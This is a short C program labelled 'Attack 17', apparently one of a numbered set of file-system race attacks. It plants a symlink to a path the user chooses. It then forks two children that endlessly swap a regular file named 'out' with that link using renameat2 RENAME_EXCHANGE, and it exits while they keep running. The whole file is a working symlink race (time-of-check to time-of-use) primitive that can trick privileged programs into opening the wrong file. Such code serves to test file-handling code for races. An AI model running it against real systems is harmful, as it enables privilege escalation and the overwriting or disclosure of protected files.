/*
 * Attack 17: main ends while its children exchange a file with a link, which they do for as long as they live.
 *
 *   swap GOAL    where the link leads
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int file = creat("out", 0644);
	char goal[1];

	if (argc != 2 || write(file, "mine\n", 5) != 5 || symlink(argv[1], "link"))
		return 1;
	for (int i = 0; i < 2; i++)
		if (!fork())
			for (;;)
				syscall(SYS_renameat2, AT_FDCWD, "out", AT_FDCWD, "link", 2 /* RENAME_EXCHANGE */);
	while (readlink("out", goal, sizeof goal) < 0)
		;
	return 0;
}
